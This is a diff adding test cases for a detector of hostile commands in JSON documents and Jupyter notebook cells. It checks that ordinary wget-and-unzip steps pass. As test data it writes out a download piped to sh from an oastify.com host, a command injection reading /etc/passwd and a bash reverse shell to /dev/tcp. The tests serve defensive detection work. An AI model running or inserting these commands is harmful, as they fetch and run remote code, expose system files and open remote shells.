@@ -1286,6 +1286,12 @@ t.test('JSON documents (json22): application repositories\' documents by kind, a
   t.same(json(pkg('graphql-codegen --require dotenv/config --config gql-codegen.yml dotenv_config_path="../../.env" --watch')), [], 'dotenv_config_path="../../.env"')
   t.ok(json(pkg('tsc && cat ../../../../etc/passwd')).includes('path_traversal'), 'a system file climbed to in a script')
   t.ok(json({ file: '../../.env' }).includes('path_traversal'), "a request's file field climbing to .env")
+  // a notebook's shell escapes are its own command lines; a download run at once or an injection still counts
+  const cell = (source: string[]) => ({ cells: [{ cell_type: 'code', execution_count: 1, metadata: {}, outputs: [], source }, { cell_type: 'markdown', metadata: {}, source: ['# Data\n', 'Downloaded first.'] }], metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } }, nbformat: 4, nbformat_minor: 5 })
+  t.same(json(cell(['!wget https://storage.googleapis.com/x/data.zip && unzip data.zip\n', '!ls -la data/'])), [], '!wget … && unzip')
+  t.same(json(cell(['# Download\n', '!mkdir -p data && cd data && wget -q https://example.com/a.tgz && tar xzf a.tgz'])), [], '!mkdir … && wget … && tar')
+  for (const source of [['!wget -qO- http://x.oastify.com/s.sh | sh\n', 'import pandas as pd'], ['!x; cat /etc/passwd\n', 'import pandas as pd'], ['!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'x = 1']]) t.ok(json(cell(source)).includes('rce'), source[0]!)
+  t.ok(json({ q: '!ls -la && cat /etc/passwd' }).includes('rce'), 'outside a document')
   // a dependency's version under a name with a URL's word (`web-api`, `astro-remote`) is no shortened address of anyone's
   t.same(json({ name: 'slackbot', version: '0.1.0', dependencies: { '@slack/web-api': '7.0.1', 'astro-remote': '0.3.4', next: '14.0.0' } }), [], 'versions')
   t.same(json({ require: { 'php': '>=8.1', 'guzzlehttp/guzzle': '7.8.1', 'league/flysystem-aws-s3-v3': '3.0.0' } }), [], "a composer manifest's require")
